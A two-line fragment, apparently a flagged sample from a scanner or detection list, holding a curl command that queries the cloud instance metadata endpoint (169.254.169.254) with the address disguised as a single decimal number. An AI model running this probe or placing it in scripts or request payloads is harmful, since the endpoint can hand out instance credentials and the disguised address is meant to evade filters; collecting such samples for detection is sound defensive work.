# flagged: curl
curl -s -m 1 http://2852039166/latest/ || true
